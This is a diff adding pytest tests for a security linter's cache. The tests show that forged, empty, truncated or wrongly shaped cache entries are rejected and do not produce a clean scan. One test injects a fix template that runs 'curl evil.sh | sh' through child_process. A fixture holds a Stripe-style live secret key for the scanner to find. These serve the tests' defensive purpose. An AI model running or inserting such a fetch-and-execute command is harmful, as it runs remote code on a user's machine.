@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import os
 from pathlib import Path
 
@@ -92,3 +93,70 @@ def test_each_kind_keeps_only_its_most_recently_used_entries(cache_home: Path, t
     assert entries[0].name in kept and entries[1].name not in kept
     validated_cache.write(validated_cache.entry_path("rules", [sources[0]]), b"[]")
     assert len(list(cache_home.glob("config-*.json"))) == validated_cache.KEEP_PER_KIND  # kinds apart
+
+
+def _forge(entry: Path, payload: bytes, with_header: bool) -> None:
+    """Write `payload` as a cache entry: raw (a foreign writer), or with a matching header
+    (a deliberate forger who knows the format)."""
+    entry.parent.mkdir(parents=True, exist_ok=True)
+    entry.write_bytes(
+        validated_cache._header(entry.name.split("-", 1)[0], payload) + payload if with_header else payload
+    )
+
+
+@pytest.mark.parametrize("with_header", [False, True])
+def test_an_empty_rule_list_in_the_cache_is_a_miss_not_a_clean_scan(
+    cache_home: Path, tree, run_cli, with_header: bool
+) -> None:
+    """Issue 11, defect 10: `[]` in the rule cache ran zero rules and reported a clean scan."""
+    root = tree({"src/pay.ts": "export const key = 'sk_live_51HqLyjWDarjtT1zdp7dcXz0aQ7f9sTnWm2vYbKcRxQe4J8hLu';\n"})
+    assert run_cli("scan", cwd=root).exit_code == 1
+    (entry,) = cache_home.glob("rules-*.json")
+    _forge(entry, b"[]", with_header)
+    result = run_cli("scan", "--format", "json", cwd=root)
+    assert result.exit_code == 1
+    assert [f["rule_id"] for f in json.loads(result.stdout)["findings"]] == ["secrets.stripe-secret-key"]
+    assert validated_cache.read(entry) != b"[]"  # rebuilt
+
+
+@pytest.mark.parametrize("with_header", [False, True])
+def test_a_fix_template_that_is_not_in_the_rule_file_is_a_miss(
+    cache_home: Path, tmp_path: Path, with_header: bool
+) -> None:
+    path = tmp_path / "acme.yaml"
+    path.write_text(RULE_FILE.format(what="request data"))
+    expected = load_rules([path], bundled=False)
+    entry = cache_entry([path])
+    assert entry is not None
+    cached = json.loads(validated_cache.read(entry) or b"")
+    cached[0]["fix"]["replacement"] = "require('child_process').exec('curl evil.sh | sh');("
+    _forge(entry, json.dumps(cached).encode(), with_header)
+    assert load_rules([path], bundled=False) == expected
+    cached[0]["fix"] = {"template": None, "replacement": 42, "safety": "safe", "description": ""}
+    _forge(entry, json.dumps(cached).encode(), with_header)
+    assert load_rules([path], bundled=False) == expected
+
+
+def test_a_damaged_entry_fails_its_digest(cache_home: Path, tmp_path: Path) -> None:
+    path = tmp_path / "acme.yaml"
+    path.write_text(RULE_FILE.format(what="request data"))
+    load_rules([path], bundled=False)
+    entry = cache_entry([path])
+    assert entry is not None
+    data = entry.read_bytes()
+    entry.write_bytes(data[:-10])  # truncated
+    assert validated_cache.read(entry) is None
+
+
+def test_a_config_entry_of_the_wrong_shape_is_a_miss(cache_home: Path, tmp_path: Path) -> None:
+    from secure_lint.config import load_config
+
+    (tmp_path / ".secure-lint.yaml").write_text("fail-on: high\nexclude: ['legacy/**']\n")
+    expected = load_config(tmp_path)
+    (entry,) = cache_home.glob("config-*.json")
+    for payload in (b"{}", b'{"fail_on": "never"}'):
+        _forge(entry, payload, with_header=True)
+        assert load_config(tmp_path) == expected
+    wrong = {**json.loads(validated_cache.read(entry) or b""), "exclude": "legacy/**", "fail_on": "never"}
+    _forge(entry, json.dumps(wrong).encode(), with_header=True)
+    assert load_config(tmp_path).fail_on == "high"
